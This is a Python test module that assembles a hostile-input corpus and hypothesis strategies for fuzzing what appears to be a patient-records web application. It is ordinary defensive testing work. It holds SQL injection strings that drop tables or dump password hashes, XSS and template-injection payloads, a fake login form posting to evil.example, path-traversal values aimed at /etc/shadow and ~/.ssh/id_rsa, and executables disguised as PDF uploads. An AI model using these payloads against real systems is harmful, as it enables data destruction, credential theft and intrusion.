"""The hostile-input corpus: a fixed list of nasty values plus hypothesis strategies.

Every value carries its category so the report can say what was tried. The fixed list is
built from base payloads and a few wrappers (the same payload inside a plausible sentence,
padded with spaces, doubled); hypothesis adds values nobody thought of.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from typing import Final

from hypothesis import strategies as st


@dataclass(frozen=True)
class Hostile:
    """One hostile value and the kind of trouble it stands for."""

    category: str
    value: str


SQL: Final = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE patients; --",
    '"; DROP TABLE audit_log; --',
    "1; DELETE FROM users WHERE 1=1",
    "admin'--",
    "' UNION SELECT username, password_hash FROM users --",
    "1' AND SLEEP(5)#",
    "'; SELECT pg_sleep(5); --",
    "%' AND 1=0 UNION SELECT NULL --",
    "'); COPY patients TO '/tmp/x'; --",
    "$$; DROP SCHEMA public CASCADE; $$",
    "\\'; TRUNCATE audit_log; --",
    "' || (SELECT current_user) || '",
    "E'\\x27' OR 1=1",
    "%",
    "_",
    "%%%%",
    "\\",
    "'",
    "''",
    '"',
    ";",
    "--",
    "/* comment */",
)
HTML: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert('xss')>",
    "<iframe src=javascript:alert(1)></iframe>",
    '"><script>alert(document.cookie)</script>',
    '<a href="javascript:alert(1)">click</a>',
    "<body onload=alert(1)>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;top:0;left:0;width:100%">fake login</div>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<form action=http://evil.example><input name=pw></form>",
    "<!--",
    "</textarea><script>alert(1)</script>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{0.__class__.__mro__}",
    "{password}",
)
MARKDOWN: Final = (
    "[click me](javascript:alert(1))",
    "![tracker](http://evil.example/pixel.png)",
    "# Heading injected",
    "**bold** _italic_ ~~strike~~",
    "```\ncode block\n```",
    "> quote\n> more",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "$\\LaTeX$ $$x^2$$",
    ":red[coloured] :material/warning:",
    '[link](http://evil.example "title")',
    "<http://evil.example>",
    "---\n***\n___",
    "* list\n* items",
    "1. one\n2. two",
    "\\*escaped\\*",
    "`inline`",
    "[^1]: footnote",
    ":smile: :rocket:",
)
CONTROL: Final = (
    "a\x00b",
    "\x00",
    "NUL\x00in the middle",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "bell\x07",
    "back\x08space",
    "esc\x1b[31mred\x1b[0m",
    "line\rreturn",
    "line\nfeed",
    "tab\there",
    "form\x0cfeed",
    "vertical\x0btab",
    "del\x7f",
    "c1\x85next\x9bcsi",
    "\r\n\r\n",
    "\x1f\x1e\x1d",
)
BIDI: Final = (
    "\u202egnp.exe",
    "abc\u202edcba",
    "\u202d\u202c",
    "\u2066isolate\u2069",
    "\u200bzero\u200bwidth",
    "\ufeffBOM",
    "\u200d\u200c",
    "\u2028line separator\u2029",
    "\u061c arabic mark",
    "مرحبا بالعالم",
    "שלום עולם",
    "e\u0301\u0301\u0301\u0301 combining",
    "Z̴̡̧̛̛͎͓͙̩̦̖͚̞͇̿̈́͛̊̾̀a̸̧̛̞̱̗͖͎̓̍̀̓l̶͓̞̈́g̷̰̈́o̵͚̒",
    "\u00a0non-breaking\u00a0",
    "\u3000全角空格\u3000",
)
UNICODE: Final = (
    "𠮷野家",
    "𠮷",
    "张三",
    "欧阳娜娜",
    "😀😃😄😁",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "❤️",
    "ＡＢＣ１２３",
    "Ｓｅｌｅｃｔ",
    "ﬁ ligature",
    "Ⅻ roman",
    "İstanbul ß ǅ",
    "中文English混合😀",
    "𝕳𝖊𝖑𝖑𝖔",
    "\U0010fffd",
    "\ue000private use",
    "ㄅㄆㄇ",
    "한국어",
    "日本語テキスト",
)
FORMAT: Final = (
    "%s%s%s%s",
    "%d %x %n",
    "{}",
    "{0}",
    "{name}",
    "{{}}",
    "\\n\\t\\0",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    '{"$gt": ""}',
)
PATHS: Final = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config\\sam",
    "/etc/shadow",
    "C:\\boot.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "\\\\server\\share\\x",
    "CON",
    "aux.txt",
    ".htaccess",
    "~/.ssh/id_rsa",
    "report.pdf\x00.exe",
    "report.pdf.exe",
    "a/b/c/../../../d",
)
WHITESPACE: Final = ("", " ", "   ", "\t\n", "\n\n\n", "\u200b", "\u3000")

WRAPPERS: Final[tuple[Callable[[str], str], ...]] = (
    lambda base: base,
    lambda base: f"患者主诉头痛 {base} 三天",  # inside a plausible sentence
    lambda base: f"  {base}  ",  # padded: stripping is the documented normalisation
    lambda base: base + base,
)
OVERLONG: Final = tuple(
    Hostile("overlong", value)
    for value in (
        "a" * 201,
        "a" * 1_001,
        "字" * 2_001,
        "𠮷" * 5_000,
        "x" * 20_001,
        "' OR 1=1 --" * 500,
        "<script>" * 2_000,
        "😀" * 10_000,
        "\u202e" * 1_000,
        "a " * 30_000,
        "长" * 100_001,
        "\n" * 5_000,
    )
)
ALL_BASES: Final = {
    "sql": SQL,
    "html": HTML,
    "markdown": MARKDOWN,
    "control": CONTROL,
    "bidi": BIDI,
    "unicode": UNICODE,
    "format": FORMAT,
    "path": PATHS,
}


def _texts() -> tuple[Hostile, ...]:
    found: dict[str, Hostile] = {}
    for category, bases in ALL_BASES.items():
        for base in bases:
            for wrap in WRAPPERS:
                value = wrap(base)
                found.setdefault(value, Hostile(category, value))
    for value in WHITESPACE:
        found.setdefault(value, Hostile("whitespace", value))
    for item in OVERLONG:
        found.setdefault(item.value, item)
    return tuple(found.values())


TEXTS: Final = _texts()

AMOUNTS: Final = (
    "-1",
    "-0.01",
    "0",
    "-0",
    "0.001",
    "1.005",
    "1e3",
    "1E-2",
    "99999999999",
    "9999999999.99",
    "1" + "0" * 40,
    "NaN",
    "Infinity",
    "-Infinity",
    "sNaN",
    "1,000.00",
    "１００",
    "¥100",
    "100元",
    " 12.50 ",
    "12.5.0",
    "0x10",
    "",
    "abc",
    "' OR 1=1",
    "1_000",
    "+5",
    "٣",
)
DATES: Final = (
    "2023-02-29",
    "2024-02-30",
    "2024-13-01",
    "2024-00-10",
    "0000-01-01",
    "9999-12-31",
    "1899-12-31",
    "10000-01-01",
    "-0001-01-01",
    "2024/01/01",
    "01-02-2024",
    "yesterday",
    "",
    "2024-01-01T25:00",
    "20240101",
)
DATE_VALUES: Final = (
    dt.date(1, 1, 1),
    dt.date(1899, 12, 31),
    dt.date(9999, 12, 31),
    dt.date(2100, 1, 1),
)
NATIONAL_IDS: Final = (
    "11010119850312001",  # 17 characters
    "1101011985031200111",  # 19 characters
    "110101198502300011",  # 30 February
    "110101198503120010",  # wrong check digit
    "11010119850312001x",  # lower-case x
    "ABCDEFGHIJKLMNOPQR",
    "110101 19850312 0011",
    "１１０１０１１９８５０３１２００１Ｘ",
    "' OR 1=1 --",
    "000000000000000000",
    "110101230001010011",  # born in the future
    "110101180001010011",  # born before 1900
    "\u202e110101198503120011",
)
MOBILES: Final = (
    "1391234567",
    "139123456789",
    "23912345678",
    "+86 139 1234 5678",
    "139-1234-5678",
    "１３９１２３４５６７８",
    "1391234567x",
    "00000000000",
    "13912345678\x00",
    "<script>1391234</script>",
)
MRNS: Final = (
    "0",
    "-1",
    "M00000000",
    "M" + "9" * 40,
    "M000000001' OR '1'='1",
    "%",
    "M%",
    "m0000000001",
    "M000000001\x00",
    "M０００００１",
)
FILENAMES: Final = (
    *PATHS,
    "",
    ".",
    "..",
    "...pdf",
    "a" * 500 + ".pdf",
    "<script>.pdf",
    "报告 𠮷.pdf",
    "\u202efdp.exe",
    "name\twith\ncontrols.png",
    "COM1.png",
    "x.PDF",
    "photo.jpeg.png",
)


@dataclass(frozen=True)
class Upload:
    """An upload as a browser would send it."""

    label: str
    filename: str
    content_type: str
    data: bytes


PDF: Final = b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF"
PNG: Final = b"\x89PNG\r\n\x1a\n" + bytes(range(64))
UPLOADS: Final = (
    Upload("exe_as_pdf", "report.pdf", "application/pdf", b"MZ\x90\x00" + b"\x00" * 60),
    Upload("html_as_png", "photo.png", "image/png", b"<html><script>alert(1)</script>"),
    Upload("png_as_pdf", "scan.pdf", "application/pdf", PNG),
    Upload("pdf_as_jpeg", "scan.jpg", "image/jpeg", PDF),
    Upload("binary_as_text", "notes.txt", "text/plain", b"\x00\x01\x02binary"),
    Upload("latin1_as_text", "notes.txt", "text/plain", "café".encode("latin-1")),
    Upload("empty", "empty.pdf", "application/pdf", b""),
    Upload("html_type", "page.html", "text/html", b"<script>alert(1)</script>"),
    Upload("svg_type", "x.svg", "image/svg+xml", b"<svg onload=alert(1)/>"),
    Upload("exe_type", "setup.exe", "application/x-msdownload", b"MZ\x90\x00"),
    Upload("oversized", "huge.pdf", "application/pdf", PDF + b"0" * (11 * 1024 * 1024)),
    Upload("traversal_name", "../../etc/passwd", "text/plain", b"root:x:0:0"),
    Upload("null_name", "scan.pdf\x00.exe", "application/pdf", PDF),
    Upload("rtl_name", "\u202egnp.exe", "image/png", PNG),
    Upload("long_name", "a" * 400 + ".png", "image/png", PNG),
    Upload("script_name", "<img src=x onerror=alert(1)>.png", "image/png", PNG),
    Upload("good_pdf", "报告.pdf", "application/pdf", PDF),
    Upload("cjk_text", "𠮷.txt", "text/plain", "𠮷野家 <b>bold</b>".encode()),
    Upload("type_case", "x.pdf", "APPLICATION/PDF", PDF),
    Upload("type_params", "x.txt", "text/plain; charset=utf-8", b"hello"),
)
MONEY_VALUES: Final = (Decimal("-1"), Decimal("0"), Decimal("1E+30"), Decimal("0.001"))


def corpus_size() -> int:
    """How many fixed hostile values the corpus holds (strategies add more at run time)."""
    return sum(
        len(group)
        for group in (
            TEXTS,
            AMOUNTS,
            DATES,
            DATE_VALUES,
            NATIONAL_IDS,
            MOBILES,
            MRNS,
            FILENAMES,
            UPLOADS,
            MONEY_VALUES,
        )
    )


def sample(category_size: int, *, seed: int = 0) -> tuple[Hostile, ...]:
    """A spread of the text corpus: up to ``category_size`` values of every category."""
    picked: list[Hostile] = []
    counts: dict[str, int] = {}
    ordered = TEXTS[seed % len(TEXTS) :] + TEXTS[: seed % len(TEXTS)]
    for item in ordered:
        if counts.get(item.category, 0) < category_size:
            counts[item.category] = counts.get(item.category, 0) + 1
            picked.append(item)
    return tuple(picked)


# Characters that break things: controls, bidi overrides, zero-width, surrogate-plane CJK.
_NASTY_CHARS: Final = (
    "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\u202e\u202d\u2066\u2069\u200b\ufeff"
    "\u2028\u3000𠮷😀<>&'\"`%_;\\/{}[]()*#|~$"
)
hostile_text = st.one_of(
    st.sampled_from([item.value for item in TEXTS if len(item.value) < 2_000]),
    st.text(alphabet=st.sampled_from(_NASTY_CHARS), max_size=40),
    st.text(
        alphabet=st.characters(exclude_categories=("Cs",), max_codepoint=0x2FFFF),
        min_size=1,
        max_size=60,
    ),
    st.builds(
        lambda a, b, c: a + b + c,
        st.sampled_from(SQL + HTML),
        st.text(alphabet=st.sampled_from(_NASTY_CHARS), max_size=5),
        st.sampled_from(MARKDOWN + BIDI + UNICODE),
    ),
)
hostile_amount = st.one_of(
    st.sampled_from(AMOUNTS),
    st.decimals(allow_nan=True, allow_infinity=True, places=None).map(str),
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.text(alphabet="0123456789.-+eE, ", max_size=12),
)
